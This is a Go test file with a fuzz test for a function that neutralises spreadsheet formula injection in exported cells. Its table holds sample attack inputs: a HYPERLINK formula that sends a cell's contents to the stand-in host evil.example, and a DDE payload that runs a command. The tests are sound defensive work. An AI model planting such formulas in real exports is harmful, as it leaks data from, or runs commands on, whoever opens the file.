package lifeline

import "testing"

func TestSpreadsheetCell(t *testing.T) {
	for _, c := range []struct{ in, out string }{
		{`=HYPERLINK("http://evil.example/?d="&A1,"点击")`, `'=HYPERLINK("http://evil.example/?d="&A1,"点击")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"-", "'-"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", `\x09=1`},
		{"\r=1", `\x0d=1`},
		{"+8613812345678", "'+8613812345678"},
		{"张桂英", "张桂英"},
		{"'quoted", "'quoted"},
		{"", ""},
	} {
		got := SpreadsheetCell(c.in)
		if got != c.out {
			t.Errorf("SpreadsheetCell(%q) = %q, want %q", c.in, got, c.out)
		}
		if _, bad := UnprintableRune(c.in); !bad && UnguardCell(got) != c.in {
			t.Errorf("UnguardCell(%q) = %q, want %q back", got, UnguardCell(got), c.in)
		}
	}
}

func FuzzSpreadsheetCell(f *testing.F) {
	f.Add("=1+2")
	f.Add("'@x")
	f.Fuzz(func(t *testing.T, s string) {
		g := SpreadsheetCell(s)
		if g != "" && (g[0] == '=' || g[0] == '+' || g[0] == '-' || g[0] == '@' || g[0] == '\t' || g[0] == '\r') {
			t.Fatalf("SpreadsheetCell(%q) = %q starts a formula", s, g)
		}
		if _, bad := UnprintableRune(s); !bad && UnguardCell(g) != s && !(len(s) > 1 && s[0] == '\'') {
			t.Fatalf("UnguardCell(SpreadsheetCell(%q)) = %q", s, UnguardCell(g))
		}
	})
}
